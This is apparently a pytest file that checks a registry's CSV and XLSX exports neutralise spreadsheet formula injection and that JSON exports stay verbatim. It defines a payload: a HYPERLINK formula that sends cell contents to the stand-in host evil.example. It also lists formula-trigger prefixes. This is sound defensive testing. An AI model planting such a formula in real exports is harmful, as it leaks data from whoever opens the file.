"""Issue 7: CSV and XLSX cells that a spreadsheet would run as a formula are shown as text; JSON is verbatim."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from registry.checks import run_checks
from registry.exports import build_tables, neutralise, render
from registry.exports.to_xlsx import SHEET_TITLES
from registry.model import Registry
from tests.exports.conftest import AS_OF, read_csv, read_json, seed_data

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize("text", ["=1+1", "+49 30 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_triggers_get_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["2019-06-01", "Rakuten Group, Inc.", "a=b", "", "'quoted"])
def test_other_text_is_untouched(text: str) -> None:
    assert neutralise(text) == text


@pytest.fixture(scope="module")
def hostile() -> Registry:
    """The seed with a processor whose name and a flow's measure are formula payloads."""
    data = seed_data()
    for processor in data["processors"]:
        if processor["id"] == "support-bpo-ph":
            processor["name"] = PAYLOAD
    for flow in data["flows"]:
        if flow["id"] == "f12-hq-support-inquiries":
            flow["supplementary_measures"] = ["-1+1 masked", *flow["supplementary_measures"]]
    return Registry.model_validate(data)


def test_csv_quotes_the_payload(hostile: Registry) -> None:
    tables = build_tables(hostile, run_checks(hostile, AS_OF), AS_OF)
    [content] = render(tables, "csv", "transfers").values()
    [row] = [r for r in read_csv(content) if r["Flow"] == "f12-hq-support-inquiries" and r["Regime"] == "EU/EEA GDPR"]
    assert row["Receiver"] == "'" + PAYLOAD
    assert row["Supplementary measures"].startswith("'-1+1 masked; ")
    assert row["Effective"] == "2019-06-01"  # a date is no string a spreadsheet could run


def test_xlsx_stores_the_payload_as_text_not_as_a_formula(hostile: Registry) -> None:
    tables = build_tables(hostile, run_checks(hostile, AS_OF), AS_OF)
    [content] = render(tables, "xlsx", "all").values()
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook[SHEET_TITLES["transfers"]]
    headers = [c.value for c in sheet[1]]
    receiver = headers.index("Receiver")
    cells = [row[receiver] for row in sheet.iter_rows(min_row=2) if row[0].value == "f12-hq-support-inquiries"]
    assert cells
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.value == "'" + PAYLOAD
    for sheet in workbook.worksheets:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], sheet.title


def test_json_keeps_the_payload_verbatim(hostile: Registry) -> None:
    tables = build_tables(hostile, run_checks(hostile, AS_OF), AS_OF)
    [content] = render(tables, "json", "transfers").values()
    rows = [r for r in read_json(content)["transfers"] if r["flow"] == "f12-hq-support-inquiries"]
    assert {r["receiver"] for r in rows} == {PAYLOAD}
    assert rows[0]["supplementary_measures"][0] == "-1+1 masked"
    assert rows[0]["effective"] == date(2019, 6, 1).isoformat()
